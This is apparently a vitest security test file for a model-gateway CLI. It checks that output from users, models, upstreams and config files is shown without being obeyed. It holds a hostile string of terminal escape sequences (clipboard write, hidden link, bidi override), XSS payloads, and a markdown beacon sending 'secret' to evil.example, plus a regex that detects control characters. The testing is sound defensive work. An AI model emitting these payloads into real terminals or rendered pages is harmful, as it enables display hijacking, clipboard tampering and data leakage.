/** S-48: what others wrote is shown by the commands, and obeyed by no terminal. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { inert } from "../src/cli/terminal.ts";
import { recordingUpstream } from "./support/recording-upstream.ts";
import { cleanEnvironment, finished, type Finished } from "./support/shell.ts";

/** Clears the screen, sets the window's title, writes the clipboard, hides a link, goes back, turns text around. */
const EVIL =
  "\u001b[2J\u001b]0;owned\u0007\u001b]52;c;ZXZpbA==\u0007\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\" +
  "\r\b\u007f\u009b31m\u202e\u2066\u200f\u2028<script>alert(1)</script><img src=x onerror=alert(1)>" +
  "[x](javascript:alert(1))![](https://evil.example/beacon?q=secret)";

// oxlint-disable-next-line no-control-regex -- control characters are what is looked for
const OBEYED = /[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u2028\u2029]/;

let folder = "";
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "pollux-terminal-"));
});
afterAll(() => rmSync(folder, { recursive: true }));

function pollux(argv: string[], env: Record<string, string> = {}): Promise<Finished> {
  return finished(process.execPath, ["src/cli/main.ts", ...argv], cleanEnvironment(env));
}

function write(name: string, text: string): string {
  const path = join(folder, name);
  writeFileSync(path, text);
  return path;
}

function expectInert({ stdout, stderr }: Finished): string {
  const shown = stdout + stderr;
  expect(shown).toContain("\\u001b");
  expect(OBEYED.exec(shown)).toBeNull();
  return shown;
}

describe("S-48 what others wrote", () => {
  test("S-48 explain: text of a model, of a tool and of a user", async () => {
    const request = {
      model: "google/gemini-3.5-flash",
      messages: [
        { role: "user", content: EVIL },
        { role: "assistant", content: EVIL },
        { role: "user", content: "go on" },
      ],
      [`odd ${EVIL}`]: 1,
    };
    const file = write("request.json", JSON.stringify(request));
    for (const json of [false, true]) {
      const shown = expectInert(await pollux(["explain", ...(json ? ["--json"] : []), file]));
      expect(shown).toContain("<script>alert(1)</script>");
      if (!json) continue;
      const { upstream } = JSON.parse(shown) as { upstream: { body: { contents: unknown } } };
      expect(upstream.body.contents).toEqual([
        { role: "user", parts: [{ text: EVIL }] },
        { role: "model", parts: [{ text: EVIL }] },
        { role: "user", parts: [{ text: "go on" }] },
      ]);
    }
  });

  test("S-48 explain: a request that is refused", async () => {
    const file = write("refused.json", JSON.stringify({ model: EVIL, messages: [] }));
    const ended = await pollux(["explain", file]);
    expect(ended.code).toBe(1);
    expect(OBEYED.exec(ended.stdout + ended.stderr)).toBeNull();
  });

  test("S-48 doctor: errors of an upstream", async () => {
    const error = { error: { code: 400, status: "INVALID_ARGUMENT", message: EVIL } };
    const upstream = await recordingUpstream(() => ({ status: 400, pieces: [JSON.stringify(error)] }));
    const config = write(
      "pollux.yaml",
      `upstreams: { g: { kind: gemini-api, apiKeys: [k], baseUrl: "${upstream.url}" } }`,
    );
    for (const json of [[], ["--json"]]) expectInert(await pollux(["doctor", "--config", config, ...json]));
    expect(upstream.calls.length).toBeGreaterThan(0);
  });

  test("S-48 auth status: what a gateway says of itself", async () => {
    const entry = {
      upstream: EVIL,
      kind: EVIL,
      description: EVIL,
      principal: EVIL,
      project: EVIL,
      quota_project: EVIL,
      found_in: EVIL,
      token: null,
      error: EVIL,
    };
    const upstream = await recordingUpstream(() => ({ pieces: [JSON.stringify({ data: [entry] })] }));
    for (const json of [[], ["--json"]]) {
      expectInert(await pollux(["auth", "status", "--url", upstream.url, ...json]));
    }
  });

  test("S-48 config: keys and values of a file", async () => {
    const bad = write("bad.yaml", JSON.stringify({ [EVIL]: EVIL, upstreams: { e: { kind: EVIL } } }));
    for (const json of [[], ["--json"]]) expectInert(await pollux(["config", "validate", bad, ...json]));
    expect(OBEYED.exec((await pollux(["serve", "--config", bad])).stderr)).toBeNull();
  });
});

test("S-48 text that commands nothing is shown as it is", () => {
  const text = "héllo 日本語 👩‍👩‍👧 שלום\n\tindented <b>\\u001b</b>";
  expect(inert(text)).toBe(text);
});
